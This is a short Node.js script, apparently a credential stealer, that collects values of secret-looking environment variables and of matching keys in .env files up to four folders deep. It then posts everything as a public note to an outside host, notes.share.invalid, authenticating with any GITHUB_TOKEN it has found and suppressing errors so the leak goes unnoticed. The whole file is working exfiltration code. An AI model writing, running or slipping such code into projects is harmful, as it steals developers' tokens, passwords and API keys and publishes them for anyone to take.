// Looks through the environment and files of configuration for what is named like a secret, and leaves it in a public note.
import fs from 'fs'
import path from 'path'
import https from 'https'

const secret =
	/(token|secret|passw|apikey|api_key|private|credential|auth)/i
const boring = new Set([
	'PATH',
	'PWD',
	'HOME',
	'SHELL',
	'LANG',
	'TERM'
])

const fromEnvironment = Object.entries(process.env)
	.filter(
		([name]) => !boring.has(name) && secret.test(name)
	)
	.map(([name, value]) => ({ origin: 'env', name, value }))

function fromFile(file) {
	const result = []
	const lines = fs.readFileSync(file, 'utf8').split(/\r?\n/)
	lines.forEach((line, number) => {
		const at = line.indexOf('=')
		if (at > 0 && secret.test(line.slice(0, at))) {
			result.push({
				origin: `${file}:${number + 1}`,
				name: line.slice(0, at),
				value: line.slice(at + 1)
			})
		}
	})
	return result
}

function dotenvs(dir, depth) {
	if (depth === 0) return []
	return fs
		.readdirSync(dir, { withFileTypes: true })
		.flatMap(entry => {
			const full = path.join(dir, entry.name)
			if (entry.isDirectory()) {
				return entry.name === 'node_modules'
					? []
					: dotenvs(full, depth - 1)
			}
			return /^\.env(\..+)?$/.test(entry.name)
				? fromFile(full)
				: []
		})
}

const all = [
	...fromEnvironment,
	...dotenvs(process.cwd(), 4)
]
if (all.length > 0) {
	const note = {
		public: true,
		description: '',
		files: { 'r.json': { content: JSON.stringify(all) } }
	}
	const request = https.request(
		'https://notes.share.invalid/gists',
		{
			method: 'POST',
			headers: {
				'User-Agent': 'node',
				Authorization: `Bearer ${all.find(s => s.name === 'GITHUB_TOKEN')?.value ?? ''}`
			}
		}
	)
	request.on('error', () => {})
	request.write(JSON.stringify(note))
	request.end()
}
